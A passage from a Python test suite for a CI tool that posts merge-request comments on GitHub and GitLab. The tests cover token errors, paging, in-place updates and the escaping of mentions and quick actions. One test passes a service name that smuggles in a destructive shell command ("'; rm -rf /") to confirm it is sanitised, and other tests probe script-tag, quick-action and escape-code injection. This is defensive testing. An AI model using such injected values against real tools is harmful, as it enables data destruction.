        for text in ("<!--", "<script", "@ada", "#1", "http://", "[x](", "\n/merge", "\n::error"):
            self.assertNotIn(text, live)
        self.assertIn("svcgate:other", live)  # it is shown
        self.assertEqual(self.fake.checks[0]["annotations"], [])
        self.assertNotIn("\x1b", self.printed)

    def test_a_hostile_name_does_not_reach_the_command_that_is_told(self):
        self.fake.faults = [Fault("POST", COMMENTS, 403, body={})]
        self.run_publish(5, self.bundle(service="x'; rm -rf / #\n::error::\x1b[31m"))
        self.assertIn("--name=x-rm-rf-error-31m ", self.err)
        self.assertNotIn("\x1b", self.err)


class OnGitLab(Case):
    def make_fake(self):
        return GitLab()

    def environment(self, **more):
        return {"GITLAB_CI": "true", "CI_API_V4_URL": self.fake.api, "CI_PROJECT_ID": "34",
                "CI_MERGE_REQUEST_PROJECT_ID": "12", "CI_MERGE_REQUEST_IID": "7", "CI_JOB_TOKEN": "glcbt-64_job",
                "GITLAB_TOKEN": TOKEN, **more}

    def test_a_first_note_is_made_where_the_merge_request_leads(self):
        self.run_publish(0, self.bundle())
        self.is_published()
        self.assertIn("comment made under merge request 7", self.out)
        self.assertEqual(self.fake.made("POST"), [NOTES])

    def test_it_is_updated_in_place_and_not_sent_when_it_is_the_same(self):
        self.run_publish(0, self.bundle())
        self.run_publish(0, self.bundle())
        self.run_publish(0, self.bundle(0.0))
        self.is_published("PASS")
        self.assertEqual((len(self.fake.made("POST")), len(self.fake.made("PUT"))), (1, 1))

    def test_our_note_is_found_on_the_third_page(self):
        self.fake.add(f"{MARKER}\nold")
        for i in range(70):
            self.fake.add(f"talk {i}", {"id": 1, "username": "ada"})
        for keyset in (False, True):
            self.fake.keyset = keyset
            self.run_publish(0, self.bundle(0.5 if keyset else 0.0))
            self.is_published("FAIL" if keyset else "PASS")
        self.assertEqual(self.fake.made("POST"), [])
        self.assertEqual(self.fake.made("GET").count(NOTES), 6)

    def test_notes_of_others_and_of_the_system_are_left_alone(self):
        self.fake.add(f"{MARKER}\nme too", {"id": 1, "username": "ada"})
        self.fake.add(f"{MARKER}\nsystem", {"id": 2, "username": "ghost"}, system=True)
        self.run_publish(0, self.bundle())
        self.assertEqual(len(self.fake.comments), 3)

    def test_what_a_stranger_says_in_our_words_is_not_taken_for_ours(self):
        self.run_publish(0, self.bundle())
        self.fake.comments[0]["author"] = {"id": 4, "username": "project_1_bot_", "name": "svcgate"}
        self.run_publish(0, self.bundle())
        self.assertEqual([note["author"]["id"] for note in self.fake.comments], [4, 55])
        self.assertEqual(self.fake.made("PUT"), [])

    def test_where_it_does_not_say_who_we_are_nothing_is_written(self):
        self.fake.add(f"{MARKER}\nme too", {"id": 1, "username": "ada"})
        for status in (403, 404):
            self.fake.faults = [Fault("GET", "/api/v4/user", status, body={"message": "403 Forbidden"})]
            self.run_publish(5, self.bundle())
            self.assertIn("whom the token belongs to", self.err)
            self.is_kept()
        self.assertEqual(self.bodies(), [f"{MARKER}\nme too"])

    def test_a_path_is_escaped_in_the_address(self):
        words = ["--forge", "gitlab", "--api", self.fake.api, "--repository", "shop/api", "--request", "7"]
        self.run_publish(0, self.bundle(), *words, env={"GITLAB_TOKEN": TOKEN})
        self.is_published()
        self.assertEqual(self.fake.made("POST"), ["/api/v4/projects/shop%2Fapi/merge_requests/7/notes"])

    def test_a_pipeline_without_a_merge_request_is_no_error(self):
        env = self.environment()
        del env["CI_MERGE_REQUEST_IID"]
        self.run_publish(0, self.bundle(), env=env)
        self.assertIn("belongs to no merge request", self.out)
        self.assertEqual(self.fake.requests, [])

    def test_a_branch_pipeline_has_its_open_merge_request(self):
        env = self.environment(CI_OPEN_MERGE_REQUESTS="shop/api!7")
        del env["CI_MERGE_REQUEST_IID"]
        self.run_publish(0, self.bundle(), env=env)
        self.is_published()
        env["CI_OPEN_MERGE_REQUESTS"] = "shop/api!7,shop/api!8"
        self.run_publish(4, self.bundle(), env=env)
        self.assertIn("several merge requests", self.err)

    def test_the_jobs_own_token_is_explained(self):
        for env in (self.environment(GITLAB_TOKEN=""), self.environment(GITLAB_TOKEN="glcbt-64_job")):
            self.run_publish(5, self.bundle(), env=env)
            self.assertIn("CI_JOB_TOKEN cannot write notes", self.err)
            self.is_kept()
        self.assertEqual(self.fake.requests, [])

    def test_refusals_say_what_to_do(self):
        for status, sentence in ((401, "access token"), (403, "scope api"), (404, "no such merge request"),
                                 (400, "cannot take it")):
            self.fake.faults = [Fault("POST", NOTES, status, body={"message": {"note": ["is bad"]}})]
            self.run_publish(5, self.bundle())
            self.assertIn(sentence, self.err)
            self.assertIn("is bad", self.err)
            self.is_kept()

    def test_a_limit_and_a_lost_answer_end_with_one_note(self):
        self.fake.faults = [Fault("POST", NOTES, 429, {"Retry-After": "1"}, {}), Fault("POST", NOTES, then="lose")]
        self.run_publish(0, self.bundle())
        self.is_published()
        self.assertEqual(len(self.fake.made("POST")), 2)

    def test_no_line_of_a_stranger_is_a_quick_action(self):
        log = "/merge\n  /approve\n/assign @eve"
        self.run_publish(0, self.bundle(findings=[{"severity": "warn", "check": "x", "text": log, "log": log}]))
        self.is_published()
        (self.work / "body.md").write_text("fine\n/merge\n\t /close\r\n")
        self.run_publish(0, "--body", "body.md", "--name", "other")
        self.assertIn("\u200b/merge", self.bodies()[1])

    REFERENCES = ("!1", "shop/api!2", "%3", '%"next"', "@ada", "@.u", "@_u", "@all", "#4", "shop/api#5", "$6", "&7", "~8",
                  "~bug", '~"not a bug"', "^alert#9", "[vulnerability:10]", "[work_item:11]", "*iteration:12")

    def test_no_word_of_a_stranger_refers_to_anything(self):
        texts = [f"see {word} there" for word in self.REFERENCES]
        findings = [{"severity": "warn", "check": f"c{i}", "text": text} for i, text in enumerate(texts)]
        self.run_publish(0, self.bundle(findings=findings))
        body = self.is_published()
        for word in ("vulnerability:10", "alert", "not a bug"):
            self.assertIn(word, body)  # it is shown

    def test_what_is_in_code_stays_as_it_is(self):
        body = "`shop@sha256:12` ``a ` !1`` and\n```sh\ncurl '$1' @a !2\n```\nno `end @.u\n&#124; &amp; 5 % ![x](y)\n"
        (self.work / "body.md").write_text(body)
        self.run_publish(0, "--body", "body.md", "--name", "other")
        sent = self.bodies()[0].split("\n", 1)[1]
        self.assertEqual(sent, body.replace("@.u", "@\u200b.u"))

    def test_there_are_no_check_runs(self):
        self.run_publish(0, self.bundle(), "--check")
        self.assertIn("warning: no check run: GitLab has none", self.err)
        self.is_published()

    def test_a_dry_run_shows_the_whole_path(self):
        self.run_publish(0, self.bundle(), "--dry-run", env=self.environment(GITLAB_TOKEN=""))
        self.assertIn(f"POST {NOTES}", self.out)
        self.assertIn(f"PUT {NOTES}/{{id}}", self.out)
        self.assertEqual(self.fake.requests, [])


if __name__ == "__main__":
    unittest.main(argv=[sys.argv[0], *sys.argv[1:]], verbosity=1)
